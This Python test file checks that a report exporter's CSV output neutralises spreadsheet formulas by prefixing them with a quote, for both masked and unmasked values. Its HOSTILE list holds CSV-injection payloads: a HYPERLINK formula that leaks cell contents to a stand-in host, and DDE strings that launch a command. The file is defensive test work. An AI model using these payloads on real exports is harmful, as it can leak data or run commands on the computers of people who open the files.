"""Issue 15 #5: CSV exports never hand a spreadsheet a formula, masked or not."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from adapters.reports.export import CASE_COLUMNS, to_csv
from adapters.reports.masking import field_value
from process_definitions import model as m

HOSTILE = [
    '=HYPERLINK("https://x.invalid/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # fullwidth equals sign: some spreadsheets fold it to "="
]


def _row(form: dict[str, Any]) -> dict[str, Any]:
    row: dict[str, Any] = dict.fromkeys(CASE_COLUMNS)
    row.update(reference="LII-2026-000001", total_seconds=12.5, steps_over_budget=0, form=form)
    return row


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return rows[1]


@pytest.mark.parametrize("value", HOSTILE)
def test_unmasked_formula_is_written_as_text(value: str) -> None:
    cells = _cells(to_csv([_row({"nama": value})], ["nama"]))
    assert cells[-1] == "'" + value.replace("\r", "\n")


def test_masked_email_starting_with_a_formula_sign_is_text() -> None:
    email = m.EmailField(id="email", label="Email", type="email")
    masked = field_value(email, "=1+1@example.com", masked=True)
    assert masked == "=***@example.com"
    cells = _cells(to_csv([_row({"email": masked})], ["email"]))
    assert cells[-1] == "'=***@example.com"


def test_plain_values_and_our_numbers_are_unchanged() -> None:
    cells = _cells(to_csv([_row({"nama": "Siti Aminah", "n": "D. L."})], ["nama", "n"]))
    assert cells[0] == "LII-2026-000001" and cells[-2:] == ["Siti Aminah", "D. L."]
    assert "12.5" in cells
